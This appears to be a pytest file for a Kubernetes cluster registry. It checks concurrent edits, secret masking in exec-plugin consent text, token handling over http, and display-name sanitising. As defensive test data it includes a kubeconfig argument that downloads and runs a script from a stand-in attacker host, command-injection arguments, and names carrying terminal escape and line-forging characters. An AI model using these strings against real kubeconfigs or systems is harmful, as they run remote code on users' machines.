"""Review 5 of the cluster registry: a change the window saves never overwrites what another
process (the CLI) changed since, nor puts back a cluster it removed; an exec plugin's consent
hides no word that is code."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from aiops_desktop.models import AuthMethod, Cluster, ClusterKind, CredentialRef, EndpointKind
from aiops_desktop.models.registry import ClusterSecrets, ClusterSpec
from aiops_desktop.secrets import SecretStore
from aiops_desktop.services.clusters.kubeconfig import read_contexts
from aiops_desktop.services.clusters.registry import (
    ClusterNotFoundError,
    ClusterRegistry,
    RegistryError,
)
from aiops_desktop.services.core import Core
from aiops_desktop.services.runtime.bus import CLUSTER_REMOVED, EventBus
from aiops_desktop.store.clusters import ClusterRepository
from aiops_desktop.store.credential_keys import CredentialKeyRepository
from aiops_desktop.store.health import HealthRepository
from tests.qtfree.cli_runner import call_main

PROM = EndpointKind.PROMETHEUS
ALERTS = EndpointKind.ALERTMANAGER
HUB_TOKEN = "sha256~hubTOKENq8Zr2VxW4nLp6Ty"
API_URL = "https://api.prod-1.example:6443"


def other_process(core: Core) -> ClusterRegistry:
    """The CLI's registry on the same cache (its own bus: the window hears nothing)."""
    return ClusterRegistry(ClusterRepository(core.db), HealthRepository(core.db), core.secrets,
                           EventBus(), keys=CredentialKeyRepository(core.db))  # fmt: skip


async def add_hub(core: Core) -> None:
    await core.registry.add(
        ClusterSpec(name="acm-hub", kind=ClusterKind.FLEET,
                    endpoint_urls={PROM: "https://thanos.hub.example"}),
        ClusterSecrets(token=HUB_TOKEN),
    )  # fmt: skip


# -- 1: the window's stale copy ------------------------------------------------------------------
@pytest.mark.asyncio
async def test_a_window_change_keeps_what_the_cli_changed_since(core: Core) -> None:
    """The CLI sets the hub's Alertmanager; the window's poller then saves the hub's members:
    the edit lands on the cluster as stored, the CLI's endpoint kept (in the cache and in
    the window)."""
    await add_hub(core)
    cli = other_process(core)
    await cli.load()
    await cli.set_endpoint("acm-hub", ALERTS, "https://am.hub.example", use_cluster_token=True)
    hub = await core.registry.set_members("acm-hub", ["spoke-1", "spoke-2"])
    assert sorted(e.kind for e in hub.endpoints) == sorted([ALERTS, PROM])
    stored = ClusterRepository(core.db).by_name("acm-hub")
    assert stored is not None and stored.status.members == ["spoke-1", "spoke-2"]
    assert stored.endpoint(ALERTS) is not None and stored.endpoint(PROM) is not None
    assert core.registry.get("acm-hub") == hub


@pytest.mark.asyncio
async def test_a_window_change_of_a_cluster_the_cli_removed_is_not_found(core: Core) -> None:
    """The CLI removed the hub (its keyring entry deleted): the window's change does not put
    its row back; the window lets it go, as a removal here."""
    seen: list[str] = []
    core.bus.subscribe(CLUSTER_REMOVED, lambda c: seen.append(c.name))
    await add_hub(core)
    cli = other_process(core)
    await cli.load()
    await cli.remove("acm-hub")
    with pytest.raises(ClusterNotFoundError, match="removed meanwhile"):
        await core.registry.set_members("acm-hub", ["spoke-1"])
    assert ClusterRepository(core.db).names() == set()
    assert core.registry.clusters() == [] and seen == ["acm-hub"]
    await core.registry.adopt_added()
    assert core.registry.clusters() == []


# -- 2: a hidden word that is the script (a plugin's own words: test_registry_review6) ---------
def exec_kubeconfig(folder: Path, command: str, args: list[str]) -> Path:
    path = folder / "config"
    path.write_text(f"""apiVersion: v1
kind: Config
clusters: [{{name: c, cluster: {{server: "https://api.prod.example.com:6443"}}}}]
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: {json.dumps(command)}
      args: {json.dumps(args)}
contexts: [{{name: prod, context: {{cluster: c, user: u}}}}]
""")
    return path


SCRIPT = "--token=$(curl -fsS https://attacker.example.net/p -o /tmp/p; sh /tmp/p)"


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("sh", ["-c", "--", SCRIPT]),  # the word is the script sh runs
        ("/usr/bin/env", ["bash", "-c", "--", "--password=x; id"]),
        ("python3.11", ["-c", "--token=1 or __import__('os').system('id')"]),
        ("C:\\Program Files\\nodejs\\node.exe", ["-e", "--key=1;require('x')"]),
    ],
)
def test_a_word_that_is_code_is_never_hidden(tmp_path: Path, command: str, args: list[str]) -> None:
    (ctx,) = read_contexts(exec_kubeconfig(tmp_path, command, args))
    assert ctx.runs is not None and "<hidden>" not in ctx.runs, ctx.runs
    assert shlex.quote(args[-1]) in ctx.runs, ctx.runs  # shown as it runs


def test_a_plugin_s_secret_values_stay_hidden(tmp_path: Path) -> None:
    args = ["get-token", "--oidc-client-secret=Zx9-client-secret", "--token", "tok-b-4711"]
    (ctx,) = read_contexts(exec_kubeconfig(tmp_path, "kubelogin", args))
    assert ctx.runs is not None
    assert "Zx9-client-secret" not in ctx.runs and "tok-b-4711" not in ctx.runs
    assert "--oidc-client-secret=<hidden>" in ctx.runs and "--token <hidden>" in ctx.runs


# -- 5: a display name that forges lines -------------------------------------------------------
FORGED = "edge-7\nHEALTHY · 100\u2028\u202e\x1b[2J\n"


@pytest.mark.asyncio
async def test_a_context_name_becomes_a_one_line_display_name(core: Core, tmp_path: Path) -> None:
    path = tmp_path / "config"
    path.write_text(f"""apiVersion: v1
kind: Config
clusters: [{{name: c, cluster: {{server: "https://api.edge-7.example:6443"}}}}]
users: [{{name: u, user: {{token: {HUB_TOKEN}}}}}]
contexts: [{{name: {json.dumps(FORGED)}, context: {{cluster: c, user: u}}}}]
""")
    (imported,) = (await core.registry.import_kubeconfig(path)).imported
    assert imported.display_name == "edge-7 HEALTHY · 100 [2J"
    assert imported.credential is not None and imported.credential.context == FORGED  # as kubectl
    added, _ = await core.registry.add_from_kubeconfig(ClusterSpec(name="edge-8"), path, FORGED)
    assert added.display_name == "edge-7 HEALTHY · 100 [2J"


def test_a_cluster_s_display_name_is_one_printable_line() -> None:
    cluster = Cluster(name="edge-7", display_name=FORGED, api_server_url="https://e.example")
    assert cluster.display_name == "edge-7 HEALTHY · 100 [2J"
    stored = Cluster.model_validate_json(
        cluster.model_dump_json().replace("edge-7 HEALTHY", "edge-7\\nHEALTHY")
    )
    assert stored.display_name == "edge-7 HEALTHY · 100 [2J"  # an old row, read clean


# -- 6: the cluster's token shared with a plain http endpoint -----------------------------------
PLAIN = "http://thanos.hub.example:9090"


@pytest.mark.asyncio
async def test_a_hub_s_token_is_never_shared_over_plain_http(core: Core) -> None:
    """A hub without an API server shares its token with its endpoints: over plain http to
    another machine it was stored, then refused at every poll."""
    with pytest.raises(RegistryError, match="over plain http to another machine") as caught:
        await core.registry.add(ClusterSpec(name="hub-1", kind=ClusterKind.FLEET,
                                            endpoint_urls={PROM: PLAIN}),
                                ClusterSecrets(token=HUB_TOKEN))  # fmt: skip
    assert PLAIN in str(caught.value) and "https" in str(caught.value)
    assert HUB_TOKEN not in str(caught.value) and core.registry.clusters() == []
    with pytest.raises(RegistryError, match="over plain http to another machine"):
        await core.registry.add(ClusterSpec(name="prod-1", api_server_url=API_URL,
                                            endpoint_urls={PROM: PLAIN}),
                                ClusterSecrets(token=HUB_TOKEN,
                                               endpoints_use_cluster_token=True))  # fmt: skip
    assert core.registry.clusters() == []
    # this machine itself (a port-forward) may take it
    hub = await core.registry.add(
        ClusterSpec(name="hub-2", kind=ClusterKind.FLEET,
                    endpoint_urls={PROM: "http://127.0.0.1:9090"}),
        ClusterSecrets(token=HUB_TOKEN),
    )  # fmt: skip
    assert hub.endpoint(PROM).credential == hub.credential  # type: ignore[union-attr]


@pytest.mark.asyncio
async def test_set_endpoint_never_shares_the_cluster_s_token_over_plain_http(core: Core) -> None:
    await core.registry.add(ClusterSpec(name="prod-1", api_server_url=API_URL),
                            ClusterSecrets(token=HUB_TOKEN))  # fmt: skip
    with pytest.raises(RegistryError, match="over plain http to another machine") as caught:
        await core.registry.set_endpoint("prod-1", PROM, PLAIN, use_cluster_token=True)
    assert "--use-cluster-token" in str(caught.value)
    assert core.registry.get("prod-1").endpoint(PROM) is None
    plain = await core.registry.set_endpoint("prod-1", PROM, PLAIN)  # without it: no token
    assert plain.endpoint(PROM).credential is None  # type: ignore[union-attr]


# -- 7: basic auth for an API server ------------------------------------------------------------
BASIC = ClusterSecrets(basic_username="admin", basic_password="Hunter2-basic-pw")


@pytest.mark.asyncio
async def test_basic_auth_is_refused_for_an_api_server(core: Core) -> None:
    """A Kubernetes API client never sends basic auth: registered, its API server was never
    reached."""
    with pytest.raises(RegistryError, match="API server") as caught:
        await core.registry.add(ClusterSpec(name="lab-1", api_server_url=API_URL), BASIC)
    assert "basic auth" in str(caught.value) and "token" in str(caught.value)
    assert "Hunter2-basic-pw" not in str(caught.value) and core.registry.clusters() == []
    # endpoints alone may take it
    lab = await core.registry.add(
        ClusterSpec(name="lab-2", endpoint_urls={PROM: "https://prom.lab.example"}), BASIC
    )
    assert lab.endpoint(PROM).auth is AuthMethod.BASIC  # type: ignore[union-attr]


def test_cli_add_refuses_basic_auth_for_an_api_server_before_asking(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = call_main(tmp_path / "home", "clusters", "add", "lab-1",
                               "--api-url", API_URL, "--basic-user", "admin")  # fmt: skip
    assert code != 0 and "basic auth" in err and "API server" in err, err
    assert "password" not in out
    call_main(tmp_path / "home", "clusters", "add", "--help")
    shown = capsys.readouterr().out
    help_text = " ".join(shown[shown.index("--basic-user USER  ") :][:400].split())
    assert "Not for the API server" in help_text


# -- 8: a file name that forges a line of the import's output -----------------------------------
FORGING_FILES = [
    "/etc/x\nimported prod-east (context 'prod-east')",  # outside the kubeconfig's folder
    "missing\nimported prod-west (context 'prod-west')",  # beside it, not there
    "~nobody-such-user\nimported lab (context 'lab')/t",  # a home folder not known
]


def test_a_file_name_in_a_skip_reason_is_quoted(tmp_path: Path, secret_service: Any) -> None:
    users = "\n".join(
        f"- {{name: u{i}, user: {{tokenFile: {json.dumps(f)}}}}}"
        for i, f in enumerate(FORGING_FILES)
    )
    contexts = "\n".join(
        f"- {{name: c{i}, context: {{cluster: c, user: u{i}}}}}" for i in range(len(FORGING_FILES))
    )
    folder = tmp_path / "kc"
    folder.mkdir()
    path = folder / "config"
    path.write_text(f"""apiVersion: v1
kind: Config
clusters: [{{name: c, cluster: {{server: "https://api.prod.example.com:6443"}}}}]
users:
{users}
contexts:
{contexts}
""")
    found = read_contexts(path)
    assert [c.usable for c in found] == [False] * len(FORGING_FILES)
    for ctx in found:
        assert ctx.error is not None and "\n" not in ctx.error, ctx.error
    code, out, _ = call_main(tmp_path / "home", "clusters", "import-kubeconfig", str(path))
    assert code != 0
    assert [line.split(":")[0] for line in out.splitlines()] == [
        f"skipped context 'c{i}'" for i in range(len(FORGING_FILES))
    ], out


# -- 9: the cluster's credential for an endpoint, from a context without a static token ---------
EXEC_CONTEXT = """apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://api.prod.example.com:6443"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: oc,
                                args: [whoami, -t]}}}]
contexts: [{name: prod, context: {cluster: c, user: u}}]
"""
THANOS = "https://thanos-querier.apps.prod.example.com"
PROM_TOKEN = "sha256~promTOKENk3Jd8Qw2Zx7Lm5Vb"


@pytest.mark.asyncio
async def test_an_exec_context_s_credential_is_never_an_endpoint_s(
    core: Core, tmp_path: Path
) -> None:
    """No static token to send: every request of the endpoint was refused, advising a token
    of its own that no command gave."""
    path = tmp_path / "config"
    path.write_text(EXEC_CONTEXT)
    await core.registry.import_kubeconfig(path, allow_exec=True)
    with pytest.raises(RegistryError, match="no static token") as caught:
        await core.registry.set_endpoint("prod", PROM, THANOS, use_cluster_token=True)
    assert "--prometheus-token-file" in str(caught.value) and "clusters add" in str(caught.value)
    assert core.registry.get("prod").endpoint(PROM) is None


def test_cli_add_gives_a_kubeconfig_cluster_s_endpoint_its_own_token(
    tmp_path: Path, secret_service: Any
) -> None:
    path = tmp_path / "kc" / "config"
    path.parent.mkdir()
    path.write_text(EXEC_CONTEXT)
    token = tmp_path / "prom.token"
    token.write_text(PROM_TOKEN + "\n")
    home = tmp_path / "home"
    code, out, err = call_main(home, "clusters", "add", "prod-2", "--kubeconfig", str(path),
                               "--context", "prod", "--allow-exec", "--prometheus-url", THANOS,
                               "--prometheus-token-file", str(token))  # fmt: skip
    assert code == 0, err
    assert "added prod-2" in out and PROM_TOKEN not in out + err
    code, out, err = call_main(home, "clusters", "list", "--json")
    (cluster,) = json.loads(out)
    (prom,) = cluster["endpoints"]
    assert prom["kind"] == PROM.value and prom["auth"] == AuthMethod.BEARER.value
    assert prom["credential"]["key"] != cluster["credential"]["key"]
    ref = CredentialRef.model_validate(prom["credential"])
    assert SecretStore(secret_service.backend()).get(ref) == PROM_TOKEN
